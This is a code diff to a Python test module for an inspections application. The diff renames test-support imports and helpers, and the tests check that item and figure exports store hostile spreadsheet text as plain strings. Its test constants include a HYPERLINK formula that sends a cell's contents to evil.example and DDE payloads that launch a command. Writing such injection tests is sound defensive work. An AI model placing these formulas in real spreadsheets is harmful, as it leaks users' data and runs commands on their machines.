@@ -12,18 +12,15 @@ from fazhi.core import clock
 from fazhi.inspections.selectors import figures as figure_selectors
 from fazhi.inspections.selectors import items as item_selectors
 from fazhi.inspections.services import items as item_services
-from fazhi.inspections.tests.e2_support import (
-    _fast_passwords,
+from fazhi.inspections.tests.task_support import (
     category,
     make_entity,
     make_plan,
     make_task,
-    make_world,
+    make_task_world,
 )
 
 pytestmark = pytest.mark.django_db
-__all__ = ["_fast_passwords"]
-
 LINK = '=HYPERLINK("http://evil.example/?d="&A2,"详情")'
 PLUS = "+cmd|' /C calc'!A0"
 AT = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -35,7 +32,7 @@ def _cell(sheet, text):
 
 
 def test_item_export_writes_hostile_text_as_strings():
-    world = make_world()
+    world = make_task_world()
     item_services.item_create(
         actor=world.planner,
         organisation=world.org,
@@ -56,7 +53,7 @@ def test_item_export_writes_hostile_text_as_strings():
 
 
 def test_figures_export_writes_hostile_names_as_strings():
-    world = make_world()
+    world = make_task_world()
     plan = make_plan(world, items=[], title=MINUS)
     make_task(world, plan=plan, entity=make_entity(world, name=LINK))
     year = clock.today().year
